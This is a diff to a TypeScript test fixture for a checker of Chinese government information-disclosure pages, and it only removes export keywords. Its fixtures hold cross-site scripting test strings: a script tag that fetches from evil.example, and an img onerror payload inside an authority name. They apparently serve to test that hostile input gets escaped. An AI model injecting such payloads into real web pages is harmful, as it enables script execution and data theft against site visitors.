@@ -17,7 +17,7 @@ import { openTestDatabase } from '../test-database.ts'
 import { type SamplePage, samplePage } from './sample-page.ts'
 
 const DISTRICT = 'yunhe'
-export const SCRIPT = `<script>parent.stolen=1;fetch('https://evil.example/x')</script>`
+const SCRIPT = `<script>parent.stolen=1;fetch('https://evil.example/x')</script>`
 
 const AUTHORITIES: readonly (Pick<RegisteredAuthority, 'id' | 'name'> & Partial<RegisteredAuthority>)[] = [
   { id: 'finance', name: '云河区财政局' },
@@ -27,7 +27,7 @@ const AUTHORITIES: readonly (Pick<RegisteredAuthority, 'id' | 'name'> & Partial<
   { id: 'hostile', name: `云河区“<img src=x onerror=alert(1)>”局` },
 ]
 
-export const SENTENCE = '2023年，本机关主动公开政府信息127条，其中财政预决算信息60条，其他信息62条。'
+const SENTENCE = '2023年，本机关主动公开政府信息127条，其中财政预决算信息60条，其他信息62条。'
 
 export const FINANCE_PAGE = samplePage({
   authority: '云河区财政局',
@@ -80,7 +80,7 @@ export const FINANCE_PAGE = samplePage({
   ],
 })
 
-export const FINANCE_FINDINGS: readonly Finding[] = [
+const FINANCE_FINDINGS: readonly Finding[] = [
   {
     rule: 'T3-01',
     family: 'inaccurate',
